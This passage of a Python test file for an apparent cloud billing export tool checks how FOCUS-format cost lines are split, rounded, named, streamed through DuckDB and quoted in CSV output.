    exported = exported_lines(tmp_path, columns, values, "service, billed, price, keys, tags", select,
                              attribution=shared)
    lines = [line[1:] for line in exported if line[0] == "AWS Support"]
    d = Decimal
    assert lines == [
        ("a", d("0.033333333334"), d("0.033333333334"), d("0.033333333334"), d("0.3333333333333334")),
        ("b", d("0.033333333333"), d("0.033333333333"), d("0.033333333333"), d("0.3333333333333333")),
        ("c", d("0.033333333333"), d("0.033333333333"), d("0.033333333333"), d("0.3333333333333333")),
    ]
    assert sum(line[2] for line in lines) == sum(line[3] for line in lines) == d("0.1")


def test_a_split_tax_lines_parts_list_and_contract_at_their_share_of_the_lines_derived_costs(tmp_path):
    """A $0.10 tax on usage billed $2 listed at $2.20, contracted at $2.60, split evenly over two
    teams: each $0.05 part derived its own ListCost, 0.05 x 2.20 / 2 = 0.055 -> 0.06, and its
    ContractedCost, 0.065 -> 0.07, rounded half away from zero to the cent: 0.12 and 0.14 where
    the plain export's line says 0.11 and 0.13. A part takes the line's derived cost up to its
    end less up to its start: 0.06 - 0 and 0.11 - 0.06 listed, 0.07 - 0 and 0.13 - 0.07 contracted."""
    columns = {"ServiceName": "'Compute'", "ChargeCategory": "category", "BilledCost": "billed",
               "EffectiveCost": "billed", "ListCost": "listed", "ContractedCost": "contracted",
               "Tags": "map(keys, tags)"}
    values = ("('Usage', '1', '1.1', '1.3', ['team'], ['a']), ('Usage', '1', '1.1', '1.3', ['team'], ['b']), "
              "('Tax', '0.1', NULL, NULL, [], [])")
    shared = {"shared": [{"match": {"charge_category": "Tax"}, "split": "even", "by": "team"}]}
    exported = exported_lines(tmp_path, columns, values, "category, billed, listed, contracted, keys, tags",
                              "ChargeCategory, BilledCost, ListCost, ContractedCost", attribution=shared)
    d = Decimal
    assert [line[1:] for line in exported if line[0] == "Tax"] == [
        (d("0.05"), d("0.05"), d("0.06")), (d("0.05"), d("0.06"), d("0.07"))]


def test_a_credits_negative_rate_is_no_focus_unit_price_and_its_costs_stay(tmp_path):
    """AWS writes a credit's amount, or a Savings Plan negation's negative rate, as the line's
    rate (the demo's credit: ContractedUnitPrice -21774.19); FOCUS unit prices are never
    negative and may be null on a line it does not price, so the export leaves them null
    there, and the ContractedCost derived from the rate is still the bill's."""
    lines = exported_lines(tmp_path, {
        "ProviderName": "'AWS'", "ServiceName": "'Amazon Elastic Compute Cloud'", "ChargeCategory": "category",
        "ChargeClass": "class", "BilledCost": "billed", "EffectiveCost": "billed", "ListUnitPrice": "price",
        "ContractedUnitPrice": "price", "PricingQuantity": "quantity", "PricingUnit": "'Hrs'",
    }, "('Credit', NULL, '-25000', '-25000', NULL), "      # a credit: its amount as its rate
       "('Credit', NULL, '-2', '-0.5', '4'), "             # a Savings Plan negation
       "('Usage', 'Correction', '-1', '-0.25', '4'), "     # a corrected usage line
       "('Usage', NULL, '2', '0.5', '4')",
       "category, class, billed, price, quantity",
       "ChargeCategory, ChargeClass, BilledCost, ContractedCost, ListUnitPrice, ContractedUnitPrice")
    d = Decimal
    assert lines == [
        ("Credit", None, d(-25000), d(-25000), None, None),
        ("Credit", None, d(-2), d(-2), None, None),
        ("Usage", "Correction", d(-1), d(-1), None, None),
        ("Usage", None, d(2), d(2), d("0.5"), d("0.5")),
    ]


def test_a_region_or_account_id_without_a_name_gets_the_name_its_other_lines_give_else_the_id(tmp_path):
    """FOCUS: RegionName, SubAccountName and BillingAccountName are not null when their id is
    not. AWS leaves product/location empty on some lines of a region it names on others (the
    legacy CUR sample: 446 of 1,269 lines, CloudShell in ca-central-1); Azure EA and GCP name
    no region at all. A line without a name takes the one the provider's other lines give
    the id, else the id itself; a name on the line stays, and no id means no name."""
    lines = exported_lines(tmp_path, {
        "ProviderName": "provider", **USAGE_LINE, "RegionId": "region", "RegionName": "region_name",
        "SubAccountId": "account", "SubAccountName": "account_name", "BillingAccountId": "'payer'",
        "BillingAccountName": "payer_name",
    }, "('AWS', 'ca-central-1', 'Canada (Central)', '111', NULL, 'Org'), "
       "('AWS', 'ca-central-1', NULL, '111', NULL, NULL), "
       "('AWS', 'eu-west-9', NULL, '222', 'research', NULL), "
       "('AWS', NULL, NULL, NULL, NULL, NULL), "
       "('Microsoft', 'ca-central-1', NULL, '111', '', NULL)",
       "provider, region, region_name, account, account_name, payer_name",
       "ProviderName, RegionId, RegionName, SubAccountId, SubAccountName, BillingAccountName")
    assert lines == [
        ("AWS", "ca-central-1", "Canada (Central)", "111", "111", "Org"),
        ("AWS", "ca-central-1", "Canada (Central)", "111", "111", "Org"),
        ("AWS", "eu-west-9", "eu-west-9", "222", "research", "Org"),
        ("AWS", None, None, None, None, "Org"),
        ("Microsoft", "ca-central-1", "ca-central-1", "111", "111", "payer"),
    ]


def plan_operators(con, sql: str, params: dict) -> list[str]:
    """Every operator of the physical plan DuckDB runs `sql` with."""
    def walk(node):
        yield node["name"]
        for child in node.get("children", []):
            yield from walk(child)
    plans = json.loads(con.execute(f"EXPLAIN (FORMAT json) {files.typed_select(con, sql, params, False)}",
                                   params).fetchall()[0][1])
    return [name for plan in plans for name in walk(plan)]


def test_a_periods_lines_stream_through_the_export_read_once_and_never_held(samples, tmp_path, monkeypatch):
    """A 10M-line month exported with 10 GB of memory before (scale44): the query read its
    steps twice (the tax sums, the unused commitment's second line), so DuckDB materialized
    them, every line of the period in memory. Each period's lines are read once per query."""
    from service.export import dataset
    config_file, _ = samples
    operators = []

    def planned(con, sql, params, target, csv):
        operators.append(plan_operators(con, sql, params))
        return files.write_rows(con, sql, params, target, csv)

    monkeypatch.setattr(dataset, "write_rows", planned)
    assert spendlake(config_file, "--out", str(tmp_path / "out")).exit_code == 0
    assert operators
    for plan in operators:
        assert not {"CTE", "CTE_SCAN"} & set(plan), plan
        assert plan.count("READ_PARQUET") == 1, plan
    assert_ties_out(lake_sums(samples[1]), export_sums(tmp_path / "out"))


def test_relative_bounds_read_back_from_the_datas_end_as_attributes_do(samples, tmp_path):
    """api47: export measured `--since 7d` / `--until 2d` from the wall clock (a lake whose bill
    ended before last week exported nothing), where README says they take attribute's forms,
    which measure them back from the data's end (parse_window)."""
    config_file, lake = samples
    end = data_end(lake)
    window = parse_window("7d", "2d", end=end)
    assert export_window("7d", "2d", end=end) == (window.since, window.until)
    assert export_window("7d", None, end=end) == (parse_window("7d", end=end).since, None)
    assert export_window(None, "2d", end=end) == (None, window.until)
    out = spendlake(config_file, "--since", "7d", "--until", "2d", "--csv", "--out", str(tmp_path / "w"))
    assert out.exit_code == 0 and "nothing to export" not in out.stderr, out.output
    [(first, last)] = duckdb.sql(f"SELECT min(CAST(ChargePeriodStart AS TIMESTAMPTZ)), max(CAST(ChargePeriodStart AS "
                             f"TIMESTAMPTZ)) FROM read_csv('{tmp_path}/w/*/cost_and_usage.csv', all_varchar=true)"
                                 ).fetchall()
    assert window.since <= first <= last < window.until


def test_a_csv_line_quotes_a_list_of_numbers_and_leaves_a_number_bare():
    """review51b: a cell was left unquoted by its type's first word, so a list (INTEGER[]) would go out
    with its commas unquoted, shifting every later column; a number stays bare, text quoted."""
    import duckdb

    from service.export.files import csv_lines

    con = duckdb.connect()
    typed = "SELECT 1.50::DECIMAL(10,2) AS cost, [1, 2]::INTEGER[] AS ids, 'a\"b' AS name"
    [(line,)] = con.execute(csv_lines(con, typed, {}), {}).fetchall()
    assert line == '1.50,"[1, 2]","a""b"\n'
